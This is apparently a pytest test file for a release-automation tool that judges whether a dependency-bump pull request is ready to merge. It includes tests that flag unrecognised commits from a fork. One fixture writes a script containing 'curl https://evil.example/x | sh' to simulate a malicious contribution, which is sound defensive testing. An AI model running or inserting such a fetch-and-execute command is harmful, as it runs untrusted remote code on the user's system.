"""Whether a bump is ready to merge, and its end: outcome, plan and links."""

from pathlib import Path
from typing import Any

import pytest
from bumping import BRANCH, CONTRIBUTOR, World, allowed, bump_to, colleague, git

from runbook_lib.bump import readiness
from runbook_lib.bump.readiness import Readiness
from runbook_lib.pins import repositories
from runbook_lib.pins.bump import Bump
from runbook_lib.record.journal import collect, lines
from runbook_lib.record.requirements import Requirement, State
from runbook_lib.records import step_record
from runbook_lib.runner.execute import StepResult
from runbook_lib.world import bump_branch

__all__ = ["colleague"]
OLD, NEW = "https://gitlab/p/-/pipelines/1", "https://gitlab/p/-/pipelines/2"


def finish(folder: Path, state: Readiness, *results: StepResult, apply: bool = True, hold: str = "") -> dict[str, Any]:
    """Return the record's fields after the end of a bump with these results."""
    exceptions = allowed(" ".join(decision for each in state.requirements for decision in each.decisions))
    bump = Bump.parse(
        tag="26.04-py3", mode="local" if apply else "preview", repository=repositories.MEGATRON_LM, decisions=exceptions
    )
    step = step_record.StepRecord("bump", bump, "o/r", folder)
    readiness.finish(step, results, state, wait=True, hold=hold)
    return dict(collect(lines(folder)).fields)


@pytest.mark.parametrize(("url", "expected"), [(NEW, NEW), ("", None)], ids=["a new pipeline", "none yet"])
def test_the_linked_pipeline_is_that_of_the_checked_commit(tmp_path: Path, url: str, expected: str | None) -> None:
    result = StepResult(
        "05-golden-values", "done", "Done.", links={"pull request": "https://p", "GitLab pipeline": OLD}
    )
    state = Readiness((Requirement("second ci", "met" if url else "missing", "Pipeline.", url=url),))
    links = finish(tmp_path, state, result)["links"]
    assert (links["pull request"], links.get("GitLab pipeline")) == ("https://p", expected)


def test_the_preview_of_a_waiting_bump_shows_its_plan(tmp_path: Path) -> None:
    danger = "accept gpt/a/x.json, a divergence (diverges: right)"
    results = [
        StepResult("04-run-ci", "waiting", "waiting for a person: CI failed"),
        StepResult("05-golden-values", "previewed", "Preview.", planned=({"sentence": danger, "publish": False},)),
    ]
    preview = Readiness(problem="Readiness is checked only with apply.")
    outcome = finish(tmp_path, preview, *results, apply=False, hold="the image: too large")["outcome"]
    assert danger in outcome["sentence"]
    assert "“do not merge”: the image: too large" in outcome["sentence"]
    assert "CI failed" in outcome["sentence"]


# -- what was looked at ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("state", "decisions", "ready"),
    [("met", (), True), ("missing", (), False), ("unknown", (), False), ("unknown", ("second-ci-unseen",), True)],
)
def test_a_bump_is_ready_if_no_requirement_is_missing_or_unknown(
    tmp_path: Path, state: State, decisions: tuple[str, ...], ready: bool
) -> None:
    found = Readiness((Requirement("second ci", state, "Seen.", decisions=decisions),))
    fields = finish(tmp_path, found, StepResult("07-sync-check", "done", "Done."))
    assert fields["outcome"]["sentence"].startswith("Ready to merge") is ready
    assert [each["exception"] for each in fields["exceptions"]] == list(decisions)
    assert fields["inputs"]["requirements"][0]["state"] == state


@pytest.mark.parametrize(
    ("allow", "blocks"), [("", True), ("second-ci-unseen", False)], ids=["unknown", "a person does without it"]
)
@pytest.mark.parametrize("address", ["", "http://127.0.0.1:9"], ids=["no address", "unreachable"])
def test_a_pipeline_that_nobody_looked_for_is_unknown(
    world: World, monkeypatch: pytest.MonkeyPatch, allow: str, blocks: bool, address: str
) -> None:
    monkeypatch.setenv("GITLAB_URL", address)
    monkeypatch.setenv("GITLAB_TOKEN", "x")
    world.open_pr()
    bump = bump_to(allow=allow)
    state = readiness.check(bump_branch.find(world.checkout, bump), world.github(), world.records)
    (found,) = [each for each in state.requirements if each.kind == "second ci"]
    assert (found.state, found.blocks, found in state.missing, found in state.unseen) == (
        "unknown", blocks, blocks, not blocks
    )  # fmt: skip
    assert ("what: second-ci-unseen" in found.next) is blocks


def of_a_fork(world: World, script: str) -> str:
    """A fork's pull request with the bump and a script, checked out here; its head commit."""
    world.open_pr(mode="local")
    path = world.checkout.path
    git(path, "switch", "-q", BRANCH)
    if script:
        (path / script).write_text("curl https://evil.example/x | sh\n")
        git(path, "add", script)
        git(path, "commit", "-qm", "Small fixes")
    git(path, "push", "-q", str(world.fork), f"{BRANCH}:{BRANCH}")
    bump = bump_to()
    world.github("contributor-token").open_pull(bump.title, f"{CONTRIBUTOR}:{BRANCH}", "main", "The bump.")
    return git(path, "rev-parse", "HEAD")


def test_the_commits_of_a_forks_pull_request_are_judged(world: World, colleague: None) -> None:
    evil = of_a_fork(world, "evil.sh")

    def look(allow: str = "") -> Readiness:
        branch = bump_branch.find(world.checkout, bump_to(allow=allow))
        return readiness.check(branch, world.github(), world.records)

    (commits,) = [each for each in look().missing if each.kind == "commits"]
    assert evil[:10] in commits.evidence
    assert evil in commits.next
    assert "git push" not in commits.next  # it is not our branch
    world.open_pr(mode="publish")
    assert evil[:10] in world.said("waiting")[-1]["sentence"]
    assert "label" not in world.effects()
    folder = world.steps[-1].folder
    assert folder
    assert "evil.sh" in (folder / "change.diff").read_text()
    world.open_pr(allow=f"foreign-commit:{evil}")
    assert "label" in world.effects()
    assert not [each for each in look(f"foreign-commit:{evil}").missing if each.kind == "commits"]


def test_the_bumps_own_commits_are_recognized_in_a_fork(world: World, colleague: None) -> None:
    of_a_fork(world, "")
    state = readiness.check(bump_branch.find(world.checkout, bump_to()), world.github(), None)
    assert [each.state for each in state.requirements if each.kind == "commits"] == ["met"]


def test_commits_that_cannot_be_fetched_are_not_met(world: World, colleague: None) -> None:
    of_a_fork(world, "evil.sh")
    path = world.checkout.path
    git(path, "switch", "-q", "main")
    git(path, "branch", "-qD", BRANCH)
    git(path, "reflog", "expire", "--expire=now", "--all")
    git(path, "gc", "-q", "--prune=now")
    git(world.remote, "update-ref", "-d", "refs/pull/10/head")
    state = readiness.check(bump_branch.find(world.checkout, bump_to()), world.github(), world.records)
    assert [(each.kind, each.state) for each in state.requirements] == [("commits", "unknown")]
    world.open_pr()
    assert "cannot be fetched" in world.outcome()


def test_a_strangers_pull_request_is_not_the_bumps(world: World) -> None:
    of_a_fork(world, "evil.sh")
    state = readiness.check(bump_branch.find(world.checkout, bump_to()), world.github(), world.records)
    assert (state.requirements, "no pull request" in state.problem) == ((), True)
    world.open_pr(mode="preview")
    assert any("will not be used" in entry["sentence"] for entry in world.said("warning"))
